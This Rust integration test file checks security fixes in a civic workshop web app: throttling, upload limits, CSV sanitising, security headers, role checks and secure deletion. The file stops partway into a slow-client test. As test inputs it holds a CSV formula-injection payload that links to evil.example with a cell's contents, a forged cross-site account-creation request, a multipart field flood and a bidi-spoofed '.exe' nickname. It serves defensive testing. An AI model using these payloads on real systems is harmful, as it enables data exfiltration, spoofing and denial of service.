//! Issue 16, "ready for the open street", over real HTTP: each finding of the issue as
//! a test that failed before its fix. Client addresses are named in `X-Forwarded-For`
//! behind a trusted proxy on 127.0.0.1, so one test plays many networks.
use crate::support;

use crate::support::board::{board_json, board_workshop, join, post, refused};
use crate::support::http::*;
use reqwest::{header, Client, StatusCode};
use samskap_app::error::{AppError, Field};
use samskap_app::server::throttle::{
    CODE_FAILURES_BURST, CODE_FAILURES_PER_MINUTE, LOGIN_FAILURES_PER_EMAIL_AND_NETWORK,
};
use samskap_server::demo::DEMO_JOIN_CODE;
use samskap_server::limits::{MAX_FORM_BYTES, MAX_UPLOAD_BODY_BYTES};
use std::time::{Duration, Instant};
use uuid::Uuid;

const LEAD: &str = "leder@halden.demo";
const FACILITATOR: &str = "fasilitator@halden.demo";
const VIEWER: &str = "styringsgruppe@halden.demo";

/// Joins the demo workshop from `address` as `nickname`; the status and body.
async fn join_from(
    phone: &Client,
    base: &str,
    address: &str,
    nickname: &str,
) -> (StatusCode, String) {
    call_from(
        phone,
        base,
        address,
        "join/join",
        &[
            ("code", DEMO_JOIN_CODE),
            ("nickname", nickname),
            ("consent", "yes"),
        ],
    )
    .await
}

/// Finding 6: five wrong passwords from anywhere locked the real lead out.
#[tokio::test]
async fn wrong_passwords_elsewhere_do_not_lock_the_lead_out() {
    let (_db, base, _stop, _task) = demo_server_behind_proxy().await;
    let attacker = client();
    let wrong = [("email", LEAD), ("password", "gjetting-123456")];
    for _ in 0..LOGIN_FAILURES_PER_EMAIL_AND_NETWORK {
        let (status, body) = call_from(&attacker, &base, "203.0.113.5", "auth/login", &wrong).await;
        assert_eq!(
            (status, error_of(&body)),
            (StatusCode::UNAUTHORIZED, AppError::InvalidCredentials)
        );
    }
    refused(
        call_from(&attacker, &base, "203.0.113.5", "auth/login", &wrong).await,
        StatusCode::TOO_MANY_REQUESTS,
        AppError::TooManyAttempts,
    );
    // The same from many other addresses: the lead's email is slowed, never refused.
    for i in 0..12 {
        let address = format!("198.18.{i}.1");
        let (status, _) = call_from(&attacker, &base, &address, "auth/login", &wrong).await;
        assert_eq!(status, StatusCode::UNAUTHORIZED, "from {address}");
    }
    let lead = client();
    let started = Instant::now();
    let (status, body) = call_from(
        &lead,
        &base,
        "192.0.2.10",
        "auth/login",
        &[("email", LEAD), ("password", PASSWORD)],
    )
    .await;
    assert!(
        status.is_success() || status.is_redirection(),
        "the real lead signs in from their own network: {status} {body}"
    );
    assert!(started.elapsed() < Duration::from_secs(10));
}

/// Finding 6, the same network: someone on the lead's own network (the town hall's
/// Wi-Fi) could still lock the lead out with five wrong passwords. A browser that signed
/// in as the lead before carries a device cookie and is counted on its own.
#[tokio::test]
async fn wrong_passwords_on_the_leads_network_do_not_lock_out_the_leads_browser() {
    let (_db, base, _stop, _task) = demo_server_behind_proxy().await;
    let office = "192.0.2.44";
    let right = [("email", LEAD), ("password", PASSWORD)];
    let lead = client();
    let response = lead
        .post(format!("{base}/api/auth/login"))
        .header(header::ACCEPT, "application/json")
        .header("x-forwarded-for", office)
        .form(&right)
        .send()
        .await
        .unwrap();
    assert!(response.status().is_success());
    let device = response
        .headers()
        .get_all(header::SET_COOKIE)
        .iter()
        .map(|v| v.to_str().unwrap().to_string())
        .find(|c| c.starts_with("samskap_device="))
        .expect("a device cookie");
    for part in ["Path=/api/auth/login", "HttpOnly", "SameSite=Strict"] {
        assert!(device.contains(part), "{device} lacks {part}");
    }
    call_from(&lead, &base, office, "auth/logout", &[]).await;

    let attacker = client();
    let wrong = [("email", LEAD), ("password", "gjetting-123456")];
    for _ in 0..LOGIN_FAILURES_PER_EMAIL_AND_NETWORK {
        call_from(&attacker, &base, office, "auth/login", &wrong).await;
    }
    refused(
        call_from(&attacker, &base, office, "auth/login", &wrong).await,
        StatusCode::TOO_MANY_REQUESTS,
        AppError::TooManyAttempts,
    );
    // A browser that never signed in, on that network: held back with the attacker.
    refused(
        call_from(&client(), &base, office, "auth/login", &right).await,
        StatusCode::TOO_MANY_REQUESTS,
        AppError::TooManyAttempts,
    );
    // A made-up device cookie is no device.
    let forged = support::plain_client()
        .post(format!("{base}/api/auth/login"))
        .header(header::ACCEPT, "application/json")
        .header("x-forwarded-for", office)
        .header(
            header::COOKIE,
            format!("samskap_device={}.{}", "a".repeat(32), "0".repeat(64)),
        )
        .form(&right)
        .send()
        .await
        .unwrap();
    assert_eq!(forged.status(), StatusCode::TOO_MANY_REQUESTS);
    // The lead's own browser gets in.
    let (status, body) = call_from(&lead, &base, office, "auth/login", &right).await;
    assert!(status.is_success(), "the lead's browser: {status} {body}");
}

/// Finding 8: 100 phones behind one address, 40 got 429. Now 300 join within a minute,
/// while wrong codes from one network are throttled (and from its /64 in IPv6).
#[tokio::test]
async fn a_room_of_300_behind_one_address_joins_while_guessing_is_throttled() {
    let (_db, base, _stop, _task) = demo_server_behind_proxy().await;
    let school = "84.210.10.20";
    let started = Instant::now();
    let mut phones = Vec::new();
    for i in 0..300 {
        let base = base.clone();
        phones.push(tokio::spawn(async move {
            let phone = client();
            let (status, body) = call_from(
                &phone,
                &base,
                school,
                "join/lookup",
                &[("code", DEMO_JOIN_CODE)],
            )
            .await;
            assert_eq!(status, StatusCode::OK, "lookup {i}: {body}");
            join_from(&phone, &base, school, &format!("Elev {i}")).await
        }));
    }
    let mut joined = 0;
    for phone in phones {
        let (status, body) = phone.await.unwrap();
        assert_eq!(status, StatusCode::OK, "{body}");
        joined += 1;
    }
    let took = started.elapsed();
    assert_eq!(joined, 300);
    assert!(took < Duration::from_secs(60), "300 joins took {took:?}");
    println!("300 phones from one address joined in {took:?}");

    // Guessing codes: a burst of wrong ones, then every lookup from there is refused,
    // the right code included, while the school next door is not affected.
    let guesser = client();
    let guess = |address: &'static str, code: &'static str| {
        let (guesser, base) = (guesser.clone(), base.clone());
        async move { call_from(&guesser, &base, address, "join/lookup", &[("code", code)]).await }
    };
    let guessing = Instant::now();
    for _ in 0..CODE_FAILURES_BURST {
        refused(
            guess("2001:db8:7:7::1", "ABCD2345").await,
            StatusCode::NOT_FOUND,
            AppError::JoinCodeInvalid,
        );
    }
    // Then from elsewhere in the same /64: refused, after at most the refills the burst
    // took.
    let limit = (CODE_FAILURES_BURST, CODE_FAILURES_PER_MINUTE, 0);
    let refusal = support::until_refused(guessing, limit, CODE_FAILURES_BURST, || async {
        let answer = guess("2001:db8:7:7:ffff::2", "ABCD2346").await;
        (answer.0 != StatusCode::NOT_FOUND).then_some(answer)
    })
    .await;
    refused(
        refusal,
        StatusCode::TOO_MANY_REQUESTS,
        AppError::TooManyAttempts,
    );
    refused(
        guess("2001:db8:7:7::3", DEMO_JOIN_CODE).await,
        StatusCode::TOO_MANY_REQUESTS,
        AppError::TooManyAttempts,
    );
    let (status, _) = guess("2001:db8:7:8::1", DEMO_JOIN_CODE).await;
    assert_eq!(status, StatusCode::OK, "another /64 is another network");
    let (status, _) = guess(school, DEMO_JOIN_CODE).await;
    assert_eq!(status, StatusCode::OK);

    // A pupil at the school guesses until the school is refused: the code its phones
    // found before still lets the rest of the class in; no other code passes.
    let guessing = Instant::now();
    let refusal = support::until_refused(guessing, limit, 0, || async {
        let answer = guess(school, "ABCD2347").await;
        (answer.0 != StatusCode::NOT_FOUND).then_some(answer)
    })
    .await;
    refused(
        refusal,
        StatusCode::TOO_MANY_REQUESTS,
        AppError::TooManyAttempts,
    );
    let (status, body) = guess(school, DEMO_JOIN_CODE).await;
    assert_eq!(status, StatusCode::OK, "a code found there before: {body}");
    let (status, body) = join_from(&client(), &base, school, "Sent").await;
    assert_eq!(status, StatusCode::OK, "{body}");
    refused(
        guess(school, "ABCD2348").await,
        StatusCode::TOO_MANY_REQUESTS,
        AppError::TooManyAttempts,
    );
}

/// A workshop's participant cap, and the facilitator's count of joins per minute.
#[tokio::test]
async fn a_capped_workshop_turns_the_next_phone_away() {
    let (_db, base, _stop, _task) = demo_server().await;
    let staff = signed_in(&base, FACILITATOR).await;
    let (board, _) = join(&client(), &base, "Første").await;
    let workshop = board_workshop(&staff, &base, board).await;
    let (_, body) = call(&staff, &base, "workshops/get", &[("id", &workshop)]).await;
    let page: serde_json::Value = serde_json::from_str(&body).unwrap();
    let (all, last_minute) = (
        page["joined"][0].as_u64().unwrap(),
        page["joined"][1].as_u64().unwrap(),
    );
    assert!(last_minute >= 1 && all >= last_minute, "{body}");
    for bad in ["0", "-3", "tusen"] {
        let (status, body) = call(
            &staff,
            &base,
            "workshops/moderation",
            &[
                ("id", &workshop),
                ("report_threshold", "3"),
                ("participant_cap", bad),
            ],
        )
        .await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{bad}: {body}");
    }
    let cap = (all + 1).to_string();
    let (status, body) = call(
        &staff,
        &base,
        "workshops/moderation",
        &[
            ("id", &workshop),
            ("report_threshold", "3"),
            ("participant_cap", &cap),
        ],
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    join(&client(), &base, "Siste").await;
    let late = client();
    let (status, body) = call(
        &late,
        &base,
        "join/join",
        &[("code", DEMO_JOIN_CODE), ("consent", "yes")],
    )
    .await;
    assert_eq!(
        (status, error_of(&body)),
        (StatusCode::CONFLICT, AppError::WorkshopFull)
    );
}

/// Finding 4: three anonymous joins hid the facilitator's card, and after a restore one
/// repeated report hid it again.
#[tokio::test]
async fn reports_cannot_hide_staff_cards_and_a_restore_starts_over() {
    let (_db, base, _stop, _task) = demo_server().await;
    let staff = signed_in(&base, FACILITATOR).await;
    let (board, _) = join(&client(), &base, "Forfatter").await;
    let (status, body) = post(&staff, &base, board, "insight", "Fra fasilitatoren").await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let staff_card: samskap_domain::workshop::model::Card = serde_json::from_str(&body).unwrap();
    assert!(staff_card.author.staff);
    let author = client();
    join(&author, &base, "Mina").await;
    let (_, body) = post(&author, &base, board, "insight", "Fra Mina").await;
    let card: samskap_domain::workshop::model::Card = serde_json::from_str(&body).unwrap();

    let mut reporters = Vec::new();
    for i in 0..3 {
        let phone = client();
        join(&phone, &base, &format!("R{i}")).await;
        for id in [staff_card.id, card.id] {
            let (status, body) = call(
                &phone,
                &base,
                "cards/report",
                &[("card_id", &id.to_string())],
            )
            .await;
            assert_eq!(status, StatusCode::OK, "{body}");
        }
        reporters.push(phone);
    }
    let status_of = |board_json: &serde_json::Value, id: Uuid| {
        board_json["cards"]
            .as_array()
            .unwrap()
            .iter()
            .find(|c| c["id"] == id.to_string())
            .map(|c| c["status"].as_str().unwrap().to_string())
    };
    let seen = board_json(&staff, &base, board).await;
    assert_eq!(status_of(&seen, staff_card.id).as_deref(), Some("visible"));
    assert_eq!(status_of(&seen, card.id).as_deref(), Some("hidden"));

    let (status, _) = call(
        &staff,
        &base,
        "cards/restore",
        &[("card_id", &card.id.to_string())],
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    let (status, _) = call(
        &reporters[0],
        &base,
        "cards/report",
        &[("card_id", &card.id.to_string())],
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    let seen = board_json(&staff, &base, board).await;
    assert_eq!(
        status_of(&seen, card.id).as_deref(),
        Some("visible"),
        "one report after the restore is one report"
    );
}

/// Finding 5: a card's formula went into the evaluation CSV as it was.
#[tokio::test]
async fn formulas_are_neutralised_in_every_csv() {
    let (_db, base, _stop, _task) = demo_server().await;
    let staff = signed_in(&base, FACILITATOR).await;
    let phone = client();
    let (board, _) = join(&phone, &base, "Eva").await;
    let evil = r#"=HYPERLINK("https://evil.example/?"&C3,"Klikk")"#;
    for text in [evil, "+1+1", "@SUM(A1)", "-2+3"] {
        let (status, body) = post(&phone, &base, board, "insight", text).await;
        assert_eq!(status, StatusCode::OK, "{body}");
    }
    let workshop = board_workshop(&staff, &base, board).await;
    let csv = staff
        .get(format!("{base}/workshops/{workshop}/evaluation.csv"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let texts: Vec<String> = reader
        .records()
        .map(|r| r.unwrap().get(6).unwrap().to_string())
        .collect();
    for text in [evil, "+1+1", "@SUM(A1)", "-2+3"] {
        assert!(texts.contains(&format!("'{text}")), "{text} in {texts:?}");
    }
    assert!(
        texts.iter().all(|t| !t.starts_with(['=', '+', '-', '@'])),
        "{texts:?}"
    );

    // Staff text in the plan's open data: the lead edits a measure's title.
    let lead = signed_in(&base, LEAD).await;
    let plan = lead
        .get(format!("{base}/p/halden-sentrum/plans/2025/export.csv"))
        .send()
        .await
        .unwrap();
    assert_eq!(plan.status(), StatusCode::OK);
    let plan = plan.text().await.unwrap();
    for line in plan.lines().skip(1) {
        for cell in line.split(',') {
            assert!(!cell.starts_with(['=', '+', '@']), "{line}");
        }
    }
}

/// Finding 1: an unauthenticated multipart body of small fields was read whole.
#[tokio::test]
async fn uploads_are_bounded_before_their_body_is_read() {
    let (_db, base, _stop, _task) = demo_server().await;
    let http = client();
    let url = format!("{base}/api/photos/card");
    // Declared too large: refused from the header alone, before the body is sent.
    let (status, answer) = raw_post(
        &base,
        "/api/photos/card",
        &format!(
            "Content-Type: multipart/form-data; boundary=x\r\nContent-Length: {}",
            MAX_UPLOAD_BODY_BYTES + 1
        ),
    )
    .await;
    assert_eq!(status, 413, "{answer}");
    assert!(answer.contains("RequestTooLarge"), "{answer}");
    // Thousands of small fields: refused after the first few, unauthenticated.
    let mut body = String::new();
    for i in 0..20_000 {
        body.push_str(&format!(
            "--x\r\nContent-Disposition: form-data; name=\"f{i}\"\r\n\r\nabc\r\n"
        ));
    }
    body.push_str("--x--\r\n");
    let started = Instant::now();
    let response = http
        .post(&url)
        .header(header::CONTENT_TYPE, "multipart/form-data; boundary=x")
        .body(body)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::BAD_REQUEST);
    assert!(started.elapsed() < Duration::from_secs(5));
    // The photo field before the id: nobody is asked, nothing read.
    let body = "--x\r\nContent-Disposition: form-data; name=\"photo\"; filename=\"a.png\"\r\n\r\nPNG\r\n--x--\r\n";
    let response = http
        .post(&url)
        .header(header::CONTENT_TYPE, "multipart/form-data; boundary=x")
        .body(body)
        .send()
        .await
        .unwrap();
    let status = response.status();
    let err: AppError = serde_json::from_str(&response.text().await.unwrap()).unwrap();
    assert_eq!(
        (status, err),
        (StatusCode::BAD_REQUEST, AppError::BadRequest)
    );
    // A card id but no participant: refused before the photo's bytes are read.
    let body = format!(
        "--x\r\nContent-Disposition: form-data; name=\"card_id\"\r\n\r\n{}\r\n--x\r\nContent-Disposition: form-data; name=\"photo\"; filename=\"a.png\"\r\n\r\n{}\r\n--x--\r\n",
        Uuid::new_v4(),
        "P".repeat(1024)
    );
    let response = http
        .post(&url)
        .header(header::CONTENT_TYPE, "multipart/form-data; boundary=x")
        .body(body)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::NOT_FOUND);
    // Finding 9: a quoted, empty boundary used to panic the request's task.
    for content_type in [
        "multipart/form-data; boundary=\"",
        "multipart/form-data; boundary=\"\"",
        "multipart/form-data; xboundary=1",
    ] {
        let response = http
            .post(&url)
            .header(header::CONTENT_TYPE, content_type)
            .body("--\r\n")
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), StatusCode::BAD_REQUEST, "{content_type}");
    }
    // Every other request is capped at the form size.
    let big = "x".repeat(MAX_FORM_BYTES);
    let (status, body) = call(&http, &base, "join/lookup", &[("code", &big)]).await;
    assert_eq!(
        (status, error_of(&body)),
        (
            StatusCode::PAYLOAD_TOO_LARGE,
            AppError::RequestTooLarge(MAX_FORM_BYTES / 1024)
        )
    );
    let (status, _) = call(&http, &base, "join/lookup", &[("code", DEMO_JOIN_CODE)]).await;
    assert_eq!(status, StatusCode::OK, "the server is fine afterwards");
}

/// Finding 9: names and texts kept bidi overrides and control characters; a
/// participant could take a facilitator's name.
#[tokio::test]
async fn names_and_texts_are_cleaned_and_staff_names_reserved() {
    let (_db, base, _stop, _task) = demo_server().await;
    let phone = client();
    for taken in ["Fasilitator", "ADMIN"] {
        let (status, body) = call(
            &phone,
            &base,
            "join/join",
            &[
                ("code", DEMO_JOIN_CODE),
                ("consent", "yes"),
                ("nickname", taken),
            ],
        )
        .await;
        assert_eq!(
            (status, error_of(&body)),
            (StatusCode::UNPROCESSABLE_ENTITY, AppError::NameReserved),
            "{taken}"
        );
    }
    let staff = signed_in(&base, FACILITATOR).await;
    let (_, me) = call(&staff, &base, "auth/me", &[]).await;
    let me: serde_json::Value = serde_json::from_str(&me).unwrap();
    let name = me["display_name"].as_str().unwrap().to_uppercase();
    let (status, body) = call(
        &phone,
        &base,
        "join/join",
        &[
            ("code", DEMO_JOIN_CODE),
            ("consent", "yes"),
            ("nickname", &name),
        ],
    )
    .await;
    assert_eq!(
        (status, error_of(&body)),
        (StatusCode::UNPROCESSABLE_ENTITY, AppError::NameReserved),
        "{name}"
    );
    let (status, body) = call(
        &phone,
        &base,
        "join/join",
        &[
            ("code", DEMO_JOIN_CODE),
            ("consent", "yes"),
            ("nickname", "Ali\u{202E}gnp.exe"),
        ],
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let board = support::board::lookup(&phone, &base, DEMO_JOIN_CODE)
        .await
        .boards[0]
        .0;
    let (status, body) = post(
        &phone,
        &base,
        board,
        "insight",
        "Hei\u{0}\u{202E}du\u{200B}",
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let card: samskap_domain::workshop::model::Card = serde_json::from_str(&body).unwrap();
    assert_eq!(card.body, "Heidu");
    assert_eq!(card.author.name, "Alignp.exe");
    let (status, body) = post(&phone, &base, board, "insight", "\u{202E}\u{200B}").await;
    assert_eq!(
        (status, error_of(&body)),
        (
            StatusCode::UNPROCESSABLE_ENTITY,
            AppError::Empty(Field::Text)
        )
    );
}

/// Finding 9: a viewer made facilitator hid cards; a closed workshop took reports and
/// feedback.
#[tokio::test]
async fn a_viewer_cannot_facilitate_and_a_closed_workshop_takes_no_reports() {
    let (_db, base, _stop, _task) = demo_server().await;
    let lead = signed_in(&base, LEAD).await;
    let viewer = signed_in(&base, VIEWER).await;
    let (_, me) = call(&viewer, &base, "auth/me", &[]).await;
    let viewer_id = serde_json::from_str::<serde_json::Value>(&me).unwrap()["id"]
        .as_str()
        .unwrap()
        .to_string();
    let phone = client();
    let (board, _) = join(&phone, &base, "Tor").await;
    let reporter = client();
    join(&reporter, &base, "Siv").await;
    let workshop = board_workshop(&lead, &base, board).await;
    let (_, body) = call(&lead, &base, "workshops/get", &[("id", &workshop)]).await;
    let page: serde_json::Value = serde_json::from_str(&body).unwrap();
    let fields = &page["workshop"]["fields"];
    let starts_at = fields["starts_at"].as_str().unwrap()[..16].to_string();
    let (status, body) = call(
        &lead,
        &base,
        "workshops/update",
        &[
            ("id", &workshop),
            ("title", fields["title"].as_str().unwrap()),
            ("place", fields["place"].as_str().unwrap()),
            ("starts_at", &starts_at),
            ("facilitators[0]", &viewer_id),
        ],
    )
    .await;
    assert_eq!(
        (status, error_of(&body)),
        (StatusCode::NOT_FOUND, AppError::NotFound),
        "a read-only role is no facilitator"
    );
    let (_, body) = post(&phone, &base, board, "insight", "Benker i parken").await;
    let card: samskap_domain::workshop::model::Card = serde_json::from_str(&body).unwrap();
    refused(
        call(
            &viewer,
            &base,
            "cards/hide",
            &[("card_id", &card.id.to_string()), ("reason", "x")],
        )
        .await,
        StatusCode::FORBIDDEN,
        AppError::Forbidden,
    );

    let (status, _) = call(
        &lead,
        &base,
        "workshops/status",
        &[("id", &workshop), ("status", "closed")],
    )
    .await;
    assert_eq!(status, StatusCode::OK);
    // Joined before the close: a participant of a closed workshop reports a card.
    refused(
        call(
            &reporter,
            &base,
            "cards/report",
            &[("card_id", &card.id.to_string())],
        )
        .await,
        StatusCode::CONFLICT,
        AppError::WorkshopNotLive,
    );
}

/// Finding 9: erased text stayed in SQLite's free pages. With `secure_delete` the
/// deleted card's words are nowhere in the database files once the server stops.
#[tokio::test]
async fn a_deleted_card_leaves_no_trace_in_the_database_file() {
    let db = support::TestSqlite::new();
    let opened = db.open().await;
    samskap_server::demo::seed(opened.store.as_ref(), PASSWORD)
        .await
        .unwrap();
    let (base, stop, task) = serve(opened).await;
    let phone = client();
    let (board, _) = join(&phone, &base, "Vera").await;
    let secret = format!("HEMMELIG-{}", Uuid::new_v4().simple());
    let (status, body) = post(&phone, &base, board, "insight", &secret).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let card: samskap_domain::workshop::model::Card = serde_json::from_str(&body).unwrap();
    let (status, body) = call(
        &phone,
        &base,
        "cards/delete",
        &[("id", &card.id.to_string())],
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    stop.send(()).unwrap();
    task.await.unwrap();
    // Every page as it is now goes from the journal into the file, the journal emptied.
    let live = db.url.sqlite_file().unwrap().to_string();
    let mut raw = db.raw().await;
    sqlx::query("PRAGMA wal_checkpoint(TRUNCATE)")
        .execute(&mut raw)
        .await
        .unwrap();
    for suffix in ["", "-wal"] {
        if let Ok(bytes) = std::fs::read(format!("{live}{suffix}")) {
            assert!(
                !bytes.windows(secret.len()).any(|w| w == secret.as_bytes()),
                "the deleted text is still in samskap.db{suffix}"
            );
        }
    }
}

/// Finding 7: no security headers and no Origin check.
#[tokio::test]
async fn pages_carry_security_headers_and_cross_site_calls_are_refused() {
    let (_db, base, _stop, _task) = demo_server().await;
    let http = client();
    let login_page = http.get(format!("{base}/login")).send().await.unwrap();
    assert_eq!(login_page.status(), StatusCode::OK);
    let headers = login_page.headers().clone();
    let csp = headers[header::CONTENT_SECURITY_POLICY].to_str().unwrap();
    let nonce = csp
        .split("'nonce-")
        .nth(1)
        .and_then(|rest| rest.split('\'').next())
        .unwrap_or_else(|| panic!("no nonce in {csp}"));
    assert!(csp.contains("frame-ancestors 'none'"), "{csp}");
    assert!(csp.contains("script-src 'self' 'nonce-"), "{csp}");
    let script_src = csp
        .split(';')
        .find(|d| d.trim_start().starts_with("script-src"))
        .unwrap_or_default();
    assert!(
        !script_src.contains("'unsafe-inline'") && !script_src.contains(" 'unsafe-eval'"),
        "{csp}"
    );
    assert_eq!(headers[header::X_CONTENT_TYPE_OPTIONS], "nosniff");
    assert_eq!(headers[header::X_FRAME_OPTIONS], "DENY");
    assert_eq!(headers[header::REFERRER_POLICY], "same-origin");
    let html = login_page.text().await.unwrap();
    for script in html.split("<script").skip(1) {
        let (tag, rest) = script.split_once('>').unwrap_or_default();
        // An empty script runs nothing, so the browser does not check it.
        let empty = rest.starts_with("</script>");
        assert!(
            empty || tag.contains(&format!("nonce=\"{nonce}\"")) || tag.contains(" src="),
            "an inline script without the page's nonce: <script{tag}>"
        );
    }
    let again = http.get(format!("{base}/login")).send().await.unwrap();
    let csp_again = again.headers()[header::CONTENT_SECURITY_POLICY]
        .to_str()
        .unwrap();
    assert!(!csp_again.contains(nonce), "a fresh nonce per page");
    // JSON answers load nothing and may not be framed.
    let api = http
        .post(format!("{base}/api/join/lookup"))
        .header(header::ACCEPT, "application/json")
        .form(&[("code", DEMO_JOIN_CODE)])
        .send()
        .await
        .unwrap();
    assert!(api.headers()[header::CONTENT_SECURITY_POLICY]
        .to_str()
        .unwrap()
        .starts_with("default-src 'none'"));

    // A staff call forged from another site: refused before it runs.
    let lead = signed_in(&base, LEAD).await;
    for (name, value) in [
        ("origin", "https://evil.example"),
        ("sec-fetch-site", "cross-site"),
    ] {
        let response = lead
            .post(format!("{base}/api/accounts/create"))
            .header(header::ACCEPT, "application/json")
            .header(name, value)
            .form(&[
                ("email", "inntrenger@evil.example"),
                ("display_name", "Inntrenger"),
                ("role", "lead"),
            ])
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), StatusCode::FORBIDDEN, "{name}: {value}");
    }
    let same_origin = base.trim_start_matches("http://").to_string();
    let (status, body) = {
        let response = lead
            .post(format!("{base}/api/auth/me"))
            .header(header::ACCEPT, "application/json")
            .header("origin", format!("http://{same_origin}"))
            .header("sec-fetch-site", "same-origin")
            .send()
            .await
            .unwrap();
        (response.status(), response.text().await.unwrap())
    };
    assert_eq!(status, StatusCode::OK, "{body}");
    assert!(body.contains("leder@halden.demo"));
}

/// Finding 9: nothing limited how many event streams one client opens.
#[tokio::test]
async fn one_phone_cannot_hold_open_endless_event_streams() {
    let (_db, base, _stop, _task) = demo_server().await;
    let phone = client();
    let (board, _) = join(&phone, &base, "Strøm").await;
    let url = format!("{base}/events/boards/{board}");
    let mut open = Vec::new();
    for _ in 0..samskap_server::stream_limits::STREAMS_PER_CLIENT {
        let response = phone.get(&url).send().await.unwrap();
        assert_eq!(response.status(), StatusCode::OK);
        open.push(response);
    }
    let refused_stream = phone.get(&url).send().await.unwrap();
    assert_eq!(refused_stream.status(), StatusCode::TOO_MANY_REQUESTS);
    let err: AppError = serde_json::from_str(&refused_stream.text().await.unwrap()).unwrap();
    assert_eq!(err, AppError::TooManyStreams);
    let other = client();
    join(&other, &base, "Annen").await;
    assert_eq!(
        other.get(&url).send().await.unwrap().status(),
        StatusCode::OK,
        "another phone has its own streams"
    );
    drop(open.pop());
    // The server learns of a closed stream at its next write (a keep-alive within 15 s).
    let mut freed = false;
    for _ in 0..100 {
        tokio::time::sleep(Duration::from_millis(250)).await;
        let response = phone.get(&url).send().await.unwrap();
        if response.status() == StatusCode::OK {
            freed = true;
            break;
        }
    }
    assert!(freed, "a closed stream gives its slot back");
}

/// Finding 9: receipt codes travelled in the query string of a GET (history, logs).
#[tokio::test]
async fn receipt_codes_stay_out_of_urls() {
    let (_db, base, _stop, _task) = demo_server().await;
    let phone = client();
    let (board, _) = join(&phone, &base, "Mina").await;
    let text = "Benkene ved torget er alltid våte";
    let (status, body) = post(&phone, &base, board, "insight", text).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let card = serde_json::from_str::<serde_json::Value>(&body).unwrap()["id"]
        .as_str()
        .unwrap()
        .to_string();
    let (_, body) = call(&phone, &base, "receipts/mine", &[("card_id", &card)]).await;
    let code = serde_json::from_str::<serde_json::Value>(&body).unwrap()["code"]
        .as_str()
        .unwrap()
        .to_string();

    // The code in the address opens nothing.
    let in_url = page_text(&client(), &base, &format!("/receipt?code={code}")).await;
    assert!(
        !in_url.contains(text),
        "a code in the URL opened the journey"
    );

    // Posted, it is kept in a short-lived, HttpOnly, same-site cookie and /receipt shows it.
    let laptop = client();
    let response = laptop
        .post(format!("{base}/api/receipts/open"))
        .header(header::ACCEPT, "text/html")
        .header(header::REFERER, format!("{base}/receipt"))
        .form(&[("code", code.as_str())])
        .send()
        .await
        .unwrap();
    assert!(response.status().is_redirection(), "{}", response.status());
    assert_eq!(response.headers()[header::LOCATION], "/receipt");
    let cookie = response.headers()[header::SET_COOKIE]
        .to_str()
        .unwrap()
        .to_string();
    assert!(
        cookie.starts_with("samskap_receipt=")
            && cookie.contains("HttpOnly")
            && cookie.contains("SameSite=Strict")
            && cookie.contains("Max-Age=900"),
        "{cookie}"
    );
    let shown = page_text(&laptop, &base, "/receipt").await;
    assert!(shown.contains(text), "the opened receipt shows the journey");
    assert!(!shown.contains("/receipt?code="));

    // A made-up code in the cookie counts like a typed one.
    let forged = support::plain_client()
        .post(format!("{base}/api/receipts/current"))
        .header(header::ACCEPT, "application/json")
        .header(header::COOKIE, "samskap_receipt=ZZZZZZZZ")
        .send()
        .await
        .unwrap();
    assert_eq!(forged.status(), StatusCode::NOT_FOUND);
    assert_eq!(
        error_of(&forged.text().await.unwrap()),
        AppError::ReceiptUnknown
    );

    // Deleting the card forgets the receipt on the device.
    let (status, body) = call(
        &laptop,
        &base,
        "receipts/delete",
        &[("code", code.as_str()), ("confirm", "yes")],
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let after = page_text(&laptop, &base, "/receipt").await;
    assert!(
        !after.contains(text),
        "the deleted card's receipt is forgotten"
    );
    assert!(
        !after.contains("role=\"alert\""),
        "no error for a forgotten receipt"
    );
}

/// The HTML of a page.
async fn page_text(c: &Client, base: &str, path: &str) -> String {
    c.get(format!("{base}{path}"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap()
}

/// Sends a request's head only (no body) and reads the answer's status and text.
async fn raw_post(base: &str, path: &str, headers: &str) -> (u16, String) {
    use tokio::io::AsyncReadExt;
    let address = base.trim_start_matches("http://");
    let head = format!(
        "POST {path} HTTP/1.1\r\nHost: {address}\r\nAccept: application/json\r\n{headers}\r\nConnection: close\r\n\r\n"
    );
    let mut socket = stalled(base, &head).await;
    let mut answer = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(5), socket.read_to_end(&mut answer)).await;
    let answer = String::from_utf8_lossy(&answer).to_string();
    let status = answer
        .split_whitespace()
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or(0);
    (status, answer)
}

/// A connection that sent `head` and then nothing more (for now).
async fn stalled(base: &str, head: &str) -> tokio::net::TcpStream {
    use tokio::io::AsyncWriteExt;
    let mut socket = tokio::net::TcpStream::connect(base.trim_start_matches("http://"))
        .await
        .unwrap();
    socket.write_all(head.as_bytes()).await.unwrap();
    socket
}

/// What the server sent on `socket` before it closed it, or `None` if it had not
/// closed it within `wait`.
async fn ended_within(socket: &mut tokio::net::TcpStream, wait: Duration) -> Option<String> {
    use tokio::io::AsyncReadExt;
    let mut answer = Vec::new();
    tokio::time::timeout(wait, socket.read_to_end(&mut answer))
        .await
        .ok()?
        .ok()?;
    Some(String::from_utf8_lossy(&answer).into_owned())
}

/// Slow clients: headers that never end and bodies that stop are cut off, open
/// connections are capped, and a request left open does not hold up a shutdown.
#[tokio::test]
async fn slow_clients_are_cut_off_capped_and_cannot_hold_up_a_shutdown() {
    use samskap_server::listener::ConnectionLimits;
    let db = support::TestSqlite::new();
